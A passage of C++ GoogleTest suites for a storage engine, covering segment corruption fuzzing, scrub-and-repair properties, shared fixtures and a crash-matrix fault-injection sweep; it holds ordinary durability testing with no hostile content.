const std::vector<std::pair<std::string, std::string>>& pristine_tier_chain() {
  static const std::vector<std::pair<std::string, std::string>> files = [] {
    const fs::path dir = fresh_dir("fuzz-tier-source");
    auto store = Store::open(dir);
    EXPECT_NE(store, nullptr);
    for (const std::uint64_t seed : {11, 12, 13}) {
      EXPECT_TRUE(store->ingest(shared_study(seed), "run-" + std::to_string(seed)));
      EXPECT_TRUE(store->checkpoint());
    }
    EXPECT_EQ(store->stats().base_segments, 3u);
    std::vector<std::pair<std::string, std::string>> out;
    for (const auto& entry : fs::directory_iterator(dir)) {
      const std::string name = entry.path().filename().string();
      // Leave the arc- archives behind: these cases exercise the bare
      // valid-prefix contract, where a damaged tier has no redundant copy
      // to recover from (archive recovery is proven by the snapshot
      // fallback case above and tests/store/scrub_test.cpp).
      std::uint64_t lsn = 0;
      if (parse_store_file_name(name, "arc-", ".cvwba", lsn)) continue;
      out.emplace_back(name, slurp(entry.path()));
    }
    std::sort(out.begin(), out.end());
    return out;
  }();
  return files;
}

TEST(StoreFuzz, DamagedSegmentsAreDroppedToTheValidChainPrefix) {
  // Corrupt each segment of the chain in turn: open must keep the valid
  // prefix below it and drop (and quarantine) everything above.
  std::vector<std::string> seg_names;
  for (const auto& [name, bytes] : pristine_tier_chain()) {
    std::uint64_t from = 0, to = 0;
    if (parse_segment_file_name(name, from, to)) seg_names.push_back(name);
  }
  ASSERT_EQ(seg_names.size(), 2u);
  std::sort(seg_names.begin(), seg_names.end());

  struct Case {
    const char* tag;
    std::size_t corrupt;           // index into seg_names
    bool expect_run12, expect_run13;
  } cases[] = {
      {"lower-segment", 0, false, false},  // gap: the upper segment is unreachable
      {"upper-segment", 1, true, false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.tag);
    const fs::path dir = fresh_dir(std::string("fuzz-seg-") + c.tag);
    for (const auto& [name, bytes] : pristine_tier_chain()) {
      if (name == seg_names[c.corrupt]) {
        std::string mutated = bytes;
        mutated[40] ^= 0x01;  // a digest byte: validation must fail
        spew(dir / name, mutated);
      } else {
        spew(dir / name, bytes);
      }
    }
    StoreError error;
    auto store = Store::open(dir, {}, &error);
    ASSERT_NE(store, nullptr) << error.detail;
    EXPECT_TRUE(store->contains_run("run-11"));
    EXPECT_EQ(store->contains_run("run-12"), c.expect_run12);
    EXPECT_EQ(store->contains_run("run-13"), c.expect_run13);
    EXPECT_GE(store->stats().dropped_segments, 1u);
    EXPECT_TRUE(store->verify(&error)) << error.detail;
    EXPECT_FALSE(fs::exists(dir / seg_names[c.corrupt]));
    // The surviving chain keeps working: ingest, checkpoint, compact.
    EXPECT_TRUE(store->ingest(shared_study(14), "run-14", &error)) << error.detail;
    EXPECT_TRUE(store->checkpoint(&error)) << error.detail;
    EXPECT_TRUE(store->compact(&error)) << error.detail;
    EXPECT_TRUE(store->verify(&error)) << error.detail;
  }
}

TEST(StoreFuzz, MisnamedSegmentRangeIsDroppedNotTrusted) {
  // A segment whose file name disagrees with its kSecRange section must
  // be rejected at load, not silently adopted under the wrong range.
  std::string lower_seg;
  for (const auto& [name, bytes] : pristine_tier_chain()) {
    std::uint64_t from = 0, to = 0;
    if (parse_segment_file_name(name, from, to) && lower_seg.empty()) lower_seg = name;
  }
  const fs::path dir = fresh_dir("fuzz-seg-misnamed");
  for (const auto& [name, bytes] : pristine_tier_chain()) {
    std::uint64_t from = 0, to = 0;
    if (name == lower_seg) {
      ASSERT_TRUE(parse_segment_file_name(name, from, to));
      // Shift the claimed range up by one: still well-formed, still a
      // chainable position, but the embedded kSecRange disagrees.
      spew(dir / segment_file_name(from, to + 1), bytes);
    } else {
      spew(dir / name, bytes);
    }
  }
  StoreError error;
  auto store = Store::open(dir, {}, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  EXPECT_TRUE(store->contains_run("run-11"));
  EXPECT_FALSE(store->contains_run("run-12"));
  EXPECT_GE(store->stats().dropped_segments, 1u);
  EXPECT_TRUE(store->verify(&error)) << error.detail;
}

}  // namespace
}  // namespace cvewb::store
