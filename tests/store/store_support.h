// Shared fixtures for the store test suite: a small-but-real study the
// whole binary computes once per seed, fresh temp directories, and a
// whole-store fingerprint built purely from query digests.
#pragma once

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdint>
#include <filesystem>
#include <map>
#include <string>

#include "pipeline/study.h"
#include "store/query.h"
#include "store/store.h"

namespace cvewb::store::test_support {

inline std::filesystem::path fresh_dir(const std::string& tag) {
  // gtest_discover_tests runs every test as its own process, and `ctest -j`
  // can schedule two tests of the same suite concurrently -- so the same
  // tag from two processes must never race on one remove_all'd path.  Key
  // the root by pid.
  const std::filesystem::path dir =
      std::filesystem::path(::testing::TempDir()) /
      ("cvewb_store." + std::to_string(::getpid())) / tag;
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  return dir;
}

inline pipeline::StudyConfig small_config(std::uint64_t seed) {
  pipeline::StudyConfig config;
  config.seed = seed;
  config.threads = 1;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  return config;
}

/// One study per seed per test binary: the store tests ingest the same
/// corpus many times, and the study itself is the expensive part.
inline const pipeline::StudyResult& shared_study(std::uint64_t seed) {
  static std::map<std::uint64_t, pipeline::StudyResult> cache;
  auto it = cache.find(seed);
  if (it == cache.end()) it = cache.emplace(seed, run_study(small_config(seed))).first;
  return it->second;
}

/// Logical fingerprint of everything a store serves: the full-match-set
/// digests of both tables (predicate-free brute scans) plus the run list.
/// Two stores with equal fingerprints answer every query identically.
inline std::string store_fingerprint(const Store& store) {
  Query all;
  all.limit = 0;
  all.table = Table::kSessions;
  const QueryResult sessions = store.query(all, QueryMode::kBrute);
  all.table = Table::kEvents;
  const QueryResult events = store.query(all, QueryMode::kBrute);
  std::string fingerprint = sessions.digest_hex + "/" + events.digest_hex;
  for (const RunInfo& run : store.runs()) {
    fingerprint += "/" + run.run_key + ":" + std::to_string(run.sessions_count) + ":" +
                   std::to_string(run.events_count);
  }
  return fingerprint;
}

}  // namespace cvewb::store::test_support
