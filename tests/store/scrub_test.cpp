// Store::scrub property tests -- the self-healing half of the resource-
// resilience PR.  Contracts proven here (store/store.h):
//
//   * a clean store scrubs clean: every file validates, verify passes,
//     nothing is quarantined;
//   * exactly the damaged region is detected: one corrupted file yields
//     exactly one entry in ScrubReport::damaged, named correctly;
//   * scrub without repair never mutates the directory -- detection is a
//     read-only sweep ending in a structured kCorrupt error;
//   * repairable damage heals completely: after scrub(repair=true) the
//     store's query digests equal a never-damaged reference store's
//     (lost_lsns == 0), the damaged file sits quarantined as *.quar, and
//     one fresh snapshot with rebuilt indexes serves everything;
//   * unrepairable damage (a live WAL segment with no archived twin) is
//     reported honestly: lost_lsns counts the commits the surviving
//     chain cannot re-derive.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <vector>

#include "chaos/fs_shim.h"
#include "store/error.h"
#include "store/format.h"
#include "store/store.h"
#include "store_support.h"
#include "util/memory_budget.h"

namespace cvewb::store {
namespace {

namespace fs = std::filesystem;
using test_support::fresh_dir;
using test_support::shared_study;
using test_support::store_fingerprint;

void flip_byte(const fs::path& path, std::size_t offset) {
  std::fstream io(path, std::ios::binary | std::ios::in | std::ios::out);
  ASSERT_TRUE(io.is_open()) << path;
  io.seekg(static_cast<std::streamoff>(offset));
  char byte = 0;
  io.read(&byte, 1);
  byte = static_cast<char>(byte ^ 0x01);
  io.seekp(static_cast<std::streamoff>(offset));
  io.write(&byte, 1);
}

/// Directory listing snapshot: name -> file size.
std::map<std::string, std::uintmax_t> listing(const fs::path& dir) {
  std::map<std::string, std::uintmax_t> out;
  for (const auto& entry : fs::directory_iterator(dir)) {
    out.emplace(entry.path().filename().string(), fs::file_size(entry.path()));
  }
  return out;
}

/// Build the canonical scrub fixture: snapshot (run-11), range segment
/// (run-12), archived WAL for both, plus a live WAL segment (run-13).
std::string build_store(const fs::path& dir) {
  auto store = Store::open(dir);
  EXPECT_NE(store, nullptr);
  StoreError error;
  EXPECT_TRUE(store->ingest(shared_study(11), "run-11", &error)) << error.detail;
  EXPECT_TRUE(store->checkpoint(&error)) << error.detail;
  EXPECT_TRUE(store->ingest(shared_study(12), "run-12", &error)) << error.detail;
  EXPECT_TRUE(store->checkpoint(&error)) << error.detail;
  EXPECT_TRUE(store->ingest(shared_study(13), "run-13", &error)) << error.detail;
  return store_fingerprint(*store);
}

fs::path file_of_kind(const fs::path& dir, const char* stem, const char* ext) {
  std::vector<fs::path> found;
  for (const auto& entry : fs::directory_iterator(dir)) {
    std::uint64_t lsn = 0;
    if (parse_store_file_name(entry.path().filename().string(), stem, ext, lsn)) {
      found.push_back(entry.path());
    }
  }
  std::sort(found.begin(), found.end());
  EXPECT_FALSE(found.empty()) << stem;
  return found.empty() ? fs::path{} : found.front();
}

TEST(StoreScrub, CleanStoreScrubsClean) {
  const fs::path dir = fresh_dir("scrub-clean");
  build_store(dir);
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  ScrubReport report;
  StoreError error;
  EXPECT_TRUE(store->scrub({}, &report, &error)) << error.detail;
  EXPECT_TRUE(report.verify_ok);
  EXPECT_TRUE(report.damaged.empty());
  EXPECT_TRUE(report.quarantined.empty());
  EXPECT_FALSE(report.repaired);
  // The fixture shape is fully accounted for: snapshot + segment + live
  // wal + two archives.
  EXPECT_EQ(report.snapshots, 1u);
  EXPECT_EQ(report.segments, 1u);
  EXPECT_EQ(report.wal_segments, 1u);
  EXPECT_EQ(report.archives, 2u);
  EXPECT_EQ(report.files_scanned, 5u);
  EXPECT_EQ(store->stats().scrubs, 1u);
  EXPECT_EQ(store->stats().quarantined_files, 0u);
}

TEST(StoreScrub, SingleDamagedRegionIsDetectedExactly) {
  // Corrupt each file kind in turn; scrub must name exactly that file.
  struct Case {
    const char* tag;
    const char* stem;
    const char* ext;
  } cases[] = {
      {"snapshot", "snap-", ".cvwbs"},
      {"segment", "seg-", ".cvwbg"},  // via the seg parse below
      {"wal", "wal-", ".cvwbw"},
      {"archive", "arc-", ".cvwba"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.tag);
    const fs::path dir = fresh_dir(std::string("scrub-detect-") + c.tag);
    build_store(dir);
    fs::path victim;
    if (std::string(c.stem) == "seg-") {
      for (const auto& entry : fs::directory_iterator(dir)) {
        std::uint64_t from = 0, to = 0;
        if (parse_segment_file_name(entry.path().filename().string(), from, to)) {
          victim = entry.path();
        }
      }
    } else {
      victim = file_of_kind(dir, c.stem, c.ext);
    }
    ASSERT_FALSE(victim.empty());
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    // Flip a byte in the body, past every header: each container/segment
    // digest must catch it.
    flip_byte(victim, fs::file_size(victim) - 3);
    const auto before = listing(dir);
    ScrubReport report;
    StoreError error;
    EXPECT_FALSE(store->scrub({}, &report, &error));
    EXPECT_EQ(error.code, StoreErrorCode::kCorrupt) << error.detail;
    ASSERT_EQ(report.damaged.size(), 1u);
    EXPECT_EQ(report.damaged[0], victim.filename().string());
    EXPECT_TRUE(report.quarantined.empty());
    EXPECT_FALSE(report.repaired);
    // Detection without repair is a read-only sweep.
    EXPECT_EQ(listing(dir), before);
  }
}

TEST(StoreScrub, RepairableDamageHealsToTheCleanReferenceDigests) {
  // Damage the snapshot: every commit it folded survives in the arc-
  // chain, so a repairing scrub must converge to the reference store's
  // exact query digests with zero lost commits.
  const fs::path dir = fresh_dir("scrub-repair-snapshot");
  const std::string reference = build_store(dir);
  const fs::path snap = file_of_kind(dir, "snap-", ".cvwbs");
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  flip_byte(snap, fs::file_size(snap) - 3);

  ScrubOptions options;
  options.repair = true;
  ScrubReport report;
  StoreError error;
  ASSERT_TRUE(store->scrub(options, &report, &error)) << error.detail;
  EXPECT_TRUE(report.repaired);
  EXPECT_TRUE(report.verify_ok);
  EXPECT_EQ(report.lost_lsns, 0u);
  ASSERT_EQ(report.quarantined.size(), 1u);
  EXPECT_EQ(report.quarantined[0], snap.filename().string());
  EXPECT_TRUE(fs::exists(snap.string() + ".quar"));
  EXPECT_FALSE(fs::exists(snap));
  EXPECT_EQ(store_fingerprint(*store), reference);
  EXPECT_EQ(store->stats().quarantined_files, 1u);
  EXPECT_TRUE(store->verify(&error)) << error.detail;

  // The healed store reopens to the same state and keeps committing.
  store.reset();
  auto reopened = Store::open(dir, {}, &error);
  ASSERT_NE(reopened, nullptr) << error.detail;
  EXPECT_EQ(store_fingerprint(*reopened), reference);
  EXPECT_TRUE(reopened->ingest(shared_study(14), "run-14", &error)) << error.detail;
  EXPECT_TRUE(reopened->contains_run("run-14"));
}

TEST(StoreScrub, DamagedArchiveIsQuarantinedWithoutLogicalLoss) {
  // An archive is inert redundancy: damaging one must cost nothing --
  // repair quarantines it and the rebuilt store matches the reference.
  const fs::path dir = fresh_dir("scrub-repair-archive");
  const std::string reference = build_store(dir);
  const fs::path arc = file_of_kind(dir, "arc-", ".cvwba");
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  flip_byte(arc, fs::file_size(arc) - 3);

  ScrubOptions options;
  options.repair = true;
  ScrubReport report;
  StoreError error;
  ASSERT_TRUE(store->scrub(options, &report, &error)) << error.detail;
  EXPECT_TRUE(report.repaired);
  EXPECT_EQ(report.lost_lsns, 0u);
  ASSERT_EQ(report.quarantined.size(), 1u);
  EXPECT_EQ(report.quarantined[0], arc.filename().string());
  EXPECT_EQ(store_fingerprint(*store), reference);
}

TEST(StoreScrub, UnarchivedWalDamageIsReportedAsLostCommits) {
  // The live WAL segment (run-13) has not been folded by a checkpoint, so
  // no archive twin exists: repair must succeed structurally but report
  // exactly one unrecoverable commit, and the store must serve the
  // surviving prefix.
  const fs::path dir = fresh_dir("scrub-lossy-wal");
  build_store(dir);
  const fs::path wal = file_of_kind(dir, "wal-", ".cvwbw");
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  const std::uint64_t last_before = store->stats().last_lsn;
  flip_byte(wal, fs::file_size(wal) - 3);

  ScrubOptions options;
  options.repair = true;
  ScrubReport report;
  StoreError error;
  ASSERT_TRUE(store->scrub(options, &report, &error)) << error.detail;
  EXPECT_TRUE(report.repaired);
  EXPECT_TRUE(report.verify_ok);
  EXPECT_EQ(report.lost_lsns, 1u);
  EXPECT_EQ(store->stats().last_lsn, last_before - 1);
  EXPECT_TRUE(store->contains_run("run-11"));
  EXPECT_TRUE(store->contains_run("run-12"));
  EXPECT_FALSE(store->contains_run("run-13"));
  EXPECT_TRUE(store->verify(&error)) << error.detail;
  // Re-ingesting the lost run restores full coverage (idempotent key).
  EXPECT_TRUE(store->ingest(shared_study(13), "run-13", &error)) << error.detail;
  EXPECT_TRUE(store->contains_run("run-13"));
}

TEST(StoreScrub, RepairRebuildsOneFreshSnapshotWithConsistentIndexes) {
  // After a repairing scrub the base tier is exactly one snapshot at the
  // recovered lsn (phase 3 checkpoints + compacts), with every postings
  // index rebuilt -- verify()'s rebuild-and-compare pass must agree.
  const fs::path dir = fresh_dir("scrub-rebuild");
  build_store(dir);
  const fs::path seg = [&] {
    for (const auto& entry : fs::directory_iterator(dir)) {
      std::uint64_t from = 0, to = 0;
      if (parse_segment_file_name(entry.path().filename().string(), from, to)) {
        return entry.path();
      }
    }
    return fs::path{};
  }();
  ASSERT_FALSE(seg.empty());
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  flip_byte(seg, fs::file_size(seg) - 3);

  ScrubOptions options;
  options.repair = true;
  ScrubReport report;
  StoreError error;
  ASSERT_TRUE(store->scrub(options, &report, &error)) << error.detail;
  EXPECT_EQ(report.lost_lsns, 0u);  // the folded commits survive as archives
  const StoreStats stats = store->stats();
  EXPECT_EQ(stats.base_segments, 1u);
  EXPECT_EQ(stats.snapshot_lsn, stats.last_lsn);
  EXPECT_EQ(stats.wal_segments, 0u);
  EXPECT_TRUE(store->verify(&error)) << error.detail;
  // Index and brute executors agree after the rebuild (spot check).
  Query by_run;
  by_run.run = "run-12";
  const QueryResult via_index = store->query(by_run, QueryMode::kIndex);
  const QueryResult via_brute = store->query(by_run, QueryMode::kBrute);
  EXPECT_EQ(via_index.digest_hex, via_brute.digest_hex);
  EXPECT_GT(via_index.matched, 0u);
}

TEST(StoreScrub, ValidationProbesDoNotChargeTheMemoryBudget) {
  // The live tiers already hold a budget charge for every mapped
  // container; scrub's throwaway validation probes must not charge the
  // same bytes again, or a sweep at the edge of the budget would read a
  // refusal as damage and (under repair) quarantine healthy data.  Pin
  // the hard watermark to current usage plus a sliver: a probe that
  // charged a whole container would be refused here.
  const fs::path dir = fresh_dir("scrub-budget-probe");
  build_store(dir);
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  util::ScopedBudgetLimits limits(0, util::MemoryBudget::process().charged() + 64);
  ScrubReport report;
  StoreError error;
  EXPECT_TRUE(store->scrub({}, &report, &error)) << error.detail;
  EXPECT_TRUE(report.verify_ok);
  EXPECT_TRUE(report.damaged.empty());
  EXPECT_EQ(store->stats().quarantined_files, 0u);
}

TEST(StoreScrub, TransientReadFailureAbortsWithoutCondemningFiles) {
  // A read that fails after retries is pressure, not proof of damage:
  // the sweep must abort with kIo, mutate nothing, and succeed once the
  // fault passes -- never quarantine the unreadable file.
  const fs::path dir = fresh_dir("scrub-read-abort");
  const std::string reference = build_store(dir);
  // Pass 1: count the reads open() consumes under an armed-but-inert plan
  // (exact-op index far past any real op; any() true routes reads through
  // the shim), so pass 2 can aim the injected EIO at the sweep's first read.
  std::uint64_t open_reads = 0;
  {
    chaos::FsFaultPlan census;
    census.fail_read_at = 1'000'000;
    chaos::FsShim shim(census);
    StoreOptions options;
    options.fs = &shim;
    auto store = Store::open(dir, options);
    ASSERT_NE(store, nullptr);
    open_reads = shim.stats().reads;
  }
  chaos::FsFaultPlan plan;
  plan.fail_read_at = open_reads + 1;
  chaos::FsShim shim(plan);
  StoreOptions options;
  options.fs = &shim;
  StoreError error;
  auto store = Store::open(dir, options, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  const auto before = listing(dir);
  ScrubOptions repair;
  repair.repair = true;
  ScrubReport report;
  EXPECT_FALSE(store->scrub(repair, &report, &error));
  EXPECT_EQ(error.code, StoreErrorCode::kIo) << error.detail;
  EXPECT_TRUE(report.damaged.empty());
  EXPECT_TRUE(report.quarantined.empty());
  EXPECT_FALSE(report.repaired);
  EXPECT_EQ(listing(dir), before);  // the abort is strictly read-only
  EXPECT_EQ(store_fingerprint(*store), reference);
  // The exact-op fault is past: the next sweep runs clean end to end.
  EXPECT_TRUE(store->scrub(repair, &report, &error)) << error.detail;
  EXPECT_TRUE(report.damaged.empty());
  EXPECT_TRUE(report.verify_ok);
}

TEST(StoreScrub, RepairRebuildFailureRestoresPriorStateAndTurnsReadOnly) {
  // If the rebuild fails after quarantine (here: the checkpoint's first
  // write), the pre-scrub in-memory state must come back -- queries keep
  // answering exactly what they answered before, never an empty or
  // half-rebuilt corpus -- and the handle turns read-only until reopened,
  // because disk may be ahead of the restored memory image.
  const fs::path dir = fresh_dir("scrub-repair-fail");
  const std::string reference = build_store(dir);
  const fs::path snap = file_of_kind(dir, "snap-", ".cvwbs");
  chaos::FsFaultPlan plan;
  plan.fail_write_at = 1;  // open() and the sweep never write; the rebuild does
  chaos::FsShim shim(plan);
  StoreOptions options;
  options.fs = &shim;
  StoreError error;
  auto store = Store::open(dir, options, &error);
  ASSERT_NE(store, nullptr) << error.detail;
  // With a fault plan armed, open() adopts heap copies of the file bytes,
  // so the flip below stays invisible until scrub re-reads the disk.
  flip_byte(snap, fs::file_size(snap) - 3);

  ScrubOptions repair;
  repair.repair = true;
  ScrubReport report;
  ASSERT_FALSE(store->scrub(repair, &report, &error));
  EXPECT_EQ(error.code, StoreErrorCode::kIo) << error.detail;
  ASSERT_EQ(report.quarantined.size(), 1u);
  EXPECT_EQ(report.quarantined[0], snap.filename().string());
  EXPECT_FALSE(report.repaired);
  EXPECT_FALSE(report.verify_ok);
  EXPECT_EQ(store_fingerprint(*store), reference);

  StoreError op_error;
  EXPECT_FALSE(store->ingest(shared_study(14), "run-14", &op_error));
  EXPECT_EQ(op_error.code, StoreErrorCode::kUnavailable);
  EXPECT_FALSE(store->checkpoint(&op_error));
  EXPECT_EQ(op_error.code, StoreErrorCode::kUnavailable);
  EXPECT_FALSE(store->compact(&op_error));
  EXPECT_EQ(op_error.code, StoreErrorCode::kUnavailable);
  EXPECT_FALSE(store->scrub({}, &report, &op_error));
  EXPECT_EQ(op_error.code, StoreErrorCode::kUnavailable);

  // Reopening recovers the reference state from the surviving redo chain
  // (the quarantined snapshot's commits all have archived twins) and
  // fully restores write service.
  store.reset();
  auto reopened = Store::open(dir, {}, &error);
  ASSERT_NE(reopened, nullptr) << error.detail;
  EXPECT_EQ(store_fingerprint(*reopened), reference);
  EXPECT_TRUE(reopened->ingest(shared_study(14), "run-14", &error)) << error.detail;
  EXPECT_TRUE(reopened->contains_run("run-14"));
}

TEST(StoreScrub, QuarantinedFilesAreNeverTouchedAgain) {
  const fs::path dir = fresh_dir("scrub-quar-inert");
  const std::string reference = build_store(dir);
  const fs::path snap = file_of_kind(dir, "snap-", ".cvwbs");
  {
    auto store = Store::open(dir);
    ASSERT_NE(store, nullptr);
    flip_byte(snap, fs::file_size(snap) - 3);
    ScrubOptions options;
    options.repair = true;
    ASSERT_TRUE(store->scrub(options));
  }
  const fs::path quar = snap.string() + ".quar";
  ASSERT_TRUE(fs::exists(quar));
  const auto quar_size = fs::file_size(quar);
  // Reopen, commit, checkpoint, compact, scrub again: the .quar file must
  // survive all of it byte-for-byte untouched.
  auto store = Store::open(dir);
  ASSERT_NE(store, nullptr);
  StoreError error;
  ASSERT_TRUE(store->ingest(shared_study(14), "run-14", &error)) << error.detail;
  ASSERT_TRUE(store->checkpoint(&error)) << error.detail;
  ASSERT_TRUE(store->compact(&error)) << error.detail;
  ScrubReport report;
  ASSERT_TRUE(store->scrub({}, &report, &error)) << error.detail;
  EXPECT_TRUE(report.damaged.empty());
  EXPECT_TRUE(fs::exists(quar));
  EXPECT_EQ(fs::file_size(quar), quar_size);
}

}  // namespace
}  // namespace cvewb::store
