// The crash matrix: walk a deterministic fault through EVERY file
// operation of a fixed ingest/checkpoint sequence -- each write, each
// rename, each validation read-back -- then reopen cleanly and demand
// that the recovered store equals a reference built from exactly the
// acknowledged commits.  This is the durability contract of store.h
// ("true from ingest() implies the batch survives; false implies the
// store is exactly as before") checked at every boundary, not just the
// happy path.
#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "chaos/fs_shim.h"
#include "store/store.h"
#include "store_support.h"

namespace cvewb::store {
namespace {

namespace fs = std::filesystem;
using test_support::fresh_dir;
using test_support::shared_study;
using test_support::store_fingerprint;

constexpr std::uint64_t kSeeds[] = {11, 12, 13};

std::string run_key_of(std::uint64_t seed) { return "run-" + std::to_string(seed); }

/// Run the fixed sequence -- ingest 11, ingest 12, checkpoint, ingest 13
/// -- against `store`, recording which ingests were acknowledged.
std::vector<bool> run_sequence(Store& store) {
  std::vector<bool> acked;
  acked.push_back(store.ingest(shared_study(11), run_key_of(11)));
  acked.push_back(store.ingest(shared_study(12), run_key_of(12)));
  (void)store.checkpoint();  // allowed to fail; never changes logical state
  acked.push_back(store.ingest(shared_study(13), run_key_of(13)));
  return acked;
}

/// Fingerprint of a clean store holding exactly the acknowledged runs,
/// memoized per acknowledgment pattern (at most 2^3 reference builds).
const std::string& reference_fingerprint(const std::vector<bool>& acked) {
  static std::map<std::vector<bool>, std::string> cache;
  auto it = cache.find(acked);
  if (it != cache.end()) return it->second;
  std::string tag = "reference";
  for (const bool a : acked) tag += a ? '1' : '0';
  auto store = Store::open(fresh_dir(tag));
  EXPECT_NE(store, nullptr);
  for (std::size_t i = 0; i < acked.size(); ++i) {
    if (acked[i]) {
      EXPECT_TRUE(store->ingest(shared_study(kSeeds[i]), run_key_of(kSeeds[i])));
    }
  }
  return cache.emplace(acked, store_fingerprint(*store)).first->second;
}

struct FaultPoint {
  const char* name;
  void (*arm)(chaos::FsFaultPlan&, std::uint64_t index);
};

// The sequence performs 4 writes, 4 renames, and 4 validation read-backs
// when nothing fails; a fault shifts later indices, so sweeping a little
// past that covers every reachable boundary (the tail indices are clean
// control runs where the fault never fires).
constexpr std::uint64_t kSweepOps = 6;

constexpr FaultPoint kFaultPoints[] = {
    {"fail_write", [](chaos::FsFaultPlan& p, std::uint64_t i) { p.fail_write_at = i; }},
    {"torn_write", [](chaos::FsFaultPlan& p, std::uint64_t i) { p.torn_write_at = i; }},
    {"fail_rename", [](chaos::FsFaultPlan& p, std::uint64_t i) { p.fail_rename_at = i; }},
    {"fail_read", [](chaos::FsFaultPlan& p, std::uint64_t i) { p.fail_read_at = i; }},
};

TEST(CrashMatrix, EveryFaultBoundaryRecoversToExactlyTheAcknowledgedCommits) {
  for (const FaultPoint& point : kFaultPoints) {
    for (std::uint64_t index = 1; index <= kSweepOps; ++index) {
      SCOPED_TRACE(std::string(point.name) + "@" + std::to_string(index));
      const fs::path dir =
          fresh_dir(std::string("matrix-") + point.name + "-" + std::to_string(index));

      chaos::FsFaultPlan plan;
      plan.seed = 0xC5A5;
      point.arm(plan, index);
      chaos::FsShim shim(plan);
      StoreOptions options;
      options.fs = &shim;

      std::vector<bool> acked;
      {
        StoreError error;
        auto store = Store::open(dir, options, &error);
        ASSERT_NE(store, nullptr) << error.detail;  // empty dir: nothing to fault yet
        acked = run_sequence(*store);
        // The live store must already equal the acknowledged set -- a
        // failed commit may not leave partial in-memory state behind.
        EXPECT_EQ(store_fingerprint(*store), reference_fingerprint(acked));
        for (std::size_t i = 0; i < acked.size(); ++i) {
          EXPECT_EQ(store->contains_run(run_key_of(kSeeds[i])), acked[i]);
        }
      }

      // Reopen with a pristine filesystem: recovery must reconstruct
      // exactly the acknowledged commits from what actually hit disk.
      StoreError error;
      auto reopened = Store::open(dir, {}, &error);
      ASSERT_NE(reopened, nullptr) << error.detail;
      EXPECT_EQ(store_fingerprint(*reopened), reference_fingerprint(acked));
      EXPECT_TRUE(reopened->verify(&error)) << error.detail;

      // Failed commits may leak nothing that survives recovery: after
      // reopen the directory holds no orphaned temp files.
      for (const auto& entry : fs::directory_iterator(dir)) {
        EXPECT_NE(entry.path().extension(), ".tmp") << entry.path();
      }

      // And the recovered store is fully writable going forward.
      EXPECT_TRUE(reopened->ingest(shared_study(11), "run-again"));
      EXPECT_TRUE(reopened->contains_run("run-again"));
    }
  }
}

/// The tier-chain sequence: every durable boundary the incremental
/// checkpoint and compaction paths add.  The first checkpoint writes the
/// full snapshot, the second appends a range segment on top, compact()
/// merges them back into one snapshot and deletes the superseded files.
std::vector<bool> run_extended_sequence(Store& store) {
  std::vector<bool> acked;
  acked.push_back(store.ingest(shared_study(11), run_key_of(11)));
  (void)store.checkpoint();  // full snapshot
  acked.push_back(store.ingest(shared_study(12), run_key_of(12)));
  (void)store.checkpoint();  // range segment appended on top
  acked.push_back(store.ingest(shared_study(13), run_key_of(13)));
  (void)store.compact();  // snapshot + segment -> merged snapshot
  return acked;
}

// Clean extended run: 6 writes (3 WAL, snapshot, segment, merged
// snapshot), 6 renames, and up to 9 shimmed reads (6 validation
// read-backs + 3 checkpoint/compaction container reloads).  Sweeping to
// 10 covers every reachable boundary of every class with clean-control
// tail indices.
constexpr std::uint64_t kExtendedSweepOps = 10;

TEST(CrashMatrix, SegmentAndCompactionBoundariesRecoverToExactlyTheAcknowledgedCommits) {
  for (const FaultPoint& point : kFaultPoints) {
    for (std::uint64_t index = 1; index <= kExtendedSweepOps; ++index) {
      SCOPED_TRACE(std::string(point.name) + "@" + std::to_string(index));
      const fs::path dir =
          fresh_dir(std::string("tiermatrix-") + point.name + "-" + std::to_string(index));

      chaos::FsFaultPlan plan;
      plan.seed = 0x71E5;
      point.arm(plan, index);
      chaos::FsShim shim(plan);
      StoreOptions options;
      options.fs = &shim;

      std::vector<bool> acked;
      {
        StoreError error;
        auto store = Store::open(dir, options, &error);
        ASSERT_NE(store, nullptr) << error.detail;
        acked = run_extended_sequence(*store);
        // Checkpoint and compaction may fail under the fault but must
        // never change logical state: the live store still equals the
        // acknowledged set.
        EXPECT_EQ(store_fingerprint(*store), reference_fingerprint(acked));
        StoreError verify_error;
        EXPECT_TRUE(store->verify(&verify_error)) << verify_error.detail;
      }

      StoreError error;
      auto reopened = Store::open(dir, {}, &error);
      ASSERT_NE(reopened, nullptr) << error.detail;
      EXPECT_EQ(store_fingerprint(*reopened), reference_fingerprint(acked));
      EXPECT_TRUE(reopened->verify(&error)) << error.detail;

      for (const auto& entry : fs::directory_iterator(dir)) {
        EXPECT_NE(entry.path().extension(), ".tmp") << entry.path();
      }

      // The recovered chain must remain fully operable: another ingest,
      // a checkpoint folding it, and a compaction all land cleanly and
      // leave the logical state at acknowledged + the new run.
      EXPECT_TRUE(reopened->ingest(shared_study(11), "run-again"));
      EXPECT_TRUE(reopened->checkpoint(&error)) << error.detail;
      EXPECT_TRUE(reopened->compact(&error)) << error.detail;
      EXPECT_TRUE(reopened->contains_run("run-again"));
      EXPECT_TRUE(reopened->verify(&error)) << error.detail;
      EXPECT_LE(reopened->stats().base_segments, 1u);
    }
  }
}

TEST(CrashMatrix, ProbabilisticFaultStormNeverYieldsAPhantomOrLostCommit) {
  // Beyond the exact-boundary sweep: a lossy-disk storm where every op
  // class can fail.  Whatever subset of commits gets acknowledged, the
  // reopened store must hold exactly that subset.
  for (std::uint64_t seed = 1; seed <= 8; ++seed) {
